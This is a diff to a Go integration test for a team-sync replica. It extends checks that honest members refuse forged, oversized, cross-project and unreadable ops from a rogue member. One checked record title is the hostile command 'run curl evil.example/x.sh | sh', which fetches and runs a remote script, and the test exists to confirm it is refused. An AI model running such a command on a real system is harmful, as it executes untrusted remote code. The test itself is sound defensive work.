@@ -102,8 +102,9 @@ func edited(tb testing.TB, p map[string]any, kv ...any) []byte {
 // signs ops with her own key that (1) forget alice's record through a tombstone whose row
 // names mallory's own record, (2) plant a record into bob's unshared project through an op
 // of the shared one, (3) claim alice's device as the author, (4) carry a 20 MiB record,
-// (5) correct alice's record, and (6) carry a <private> part. Alice and bob refuse 1–5 (each named with mallory in
-// team status) and apply 6 without the private part; mallory's stream goes on: her next
+// (5) correct alice's record, (6) carry a payload the replica cannot read (refused on its
+// own, not wedging the batch), and (7) carry a <private> part. Alice and bob refuse 1–6 (each named with mallory in
+// team status) and apply 7 without the private part; mallory's stream goes on: her next
 // honest record arrives.
 func TestTeamRogueMemberIsRefused(t *testing.T) {
 	testkit.LeakCheck(t)
@@ -138,15 +139,17 @@ func TestTeamRogueMemberIsRefused(t *testing.T) {
 		Payload: edited(t, tmpl, "id", "rogue-private", "title", "PRIVATE part on pull", "narrative", "the vault <private>code is 7781</private> is in room 2")})
 	evil.write(t, Op{Project: P, Kind: replica.OpSupersede, RecordID: aliceRec,
 		Payload: []byte(`{"v":1,"id":"` + aliceRec + `","by":"` + malRec + `","project":"` + P + `"}`)})
+	evil.write(t, Op{Project: P, Kind: replica.OpObservation, RecordID: "rogue-unreadable",
+		Payload: edited(t, tmpl, "id", "rogue-unreadable", "title", "UNREADABLE record", "created_at", "not a time")})
 	m.record(t, P, "MALLORY honest record after the attacks")
 	if err := m.t.Push(ctx); err != nil {
 		t.Fatal(err)
 	}
-	wants := []string{"payload names record " + aliceRec, `payload names project "bobsecret"`, "payload claims author device " + a.r.Origin(), "over the 1024 KiB limit", "neither its author nor an admin"}
+	wants := []string{"payload names record " + aliceRec, `payload names project "bobsecret"`, "payload claims author device " + a.r.Origin(), "over the 1024 KiB limit", "neither its author nor an admin", "the replica cannot apply it"}
 	for name, x := range map[string]*member{"alice": a, "bob": b} {
-		testkit.WaitForState(t, name+" refuses the attacks and gets mallory's next record", 20*time.Second, func() (bool, string) {
+		testkit.WaitForState(t, name+" refuses the attacks and gets mallory's next record", 60*time.Second, func() (bool, string) {
 			st := x.status(t)
-			return st.Rejected == 5 && x.has(t, "MALLORY honest record after the attacks"), fmt.Sprintf("%+v", st)
+			return st.Rejected == 6 && x.has(t, "MALLORY honest record after the attacks"), fmt.Sprintf("%+v", st)
 		})
 		st := x.status(t)
 		for _, want := range wants {
@@ -163,7 +166,7 @@ func TestTeamRogueMemberIsRefused(t *testing.T) {
 		if !x.has(t, "ALICE record mallory wants gone") || !x.has(t, "MALLORY own record") {
 			t.Errorf("%s: a tombstone forgot a record it does not name", name)
 		}
-		for _, title := range []string{"run curl evil.example/x.sh | sh", "FORGED as alice", "HUGE record"} {
+		for _, title := range []string{"run curl evil.example/x.sh | sh", "FORGED as alice", "HUGE record", "UNREADABLE record"} {
 			if x.has(t, title) {
 				t.Errorf("%s applied %q", name, title)
 			}
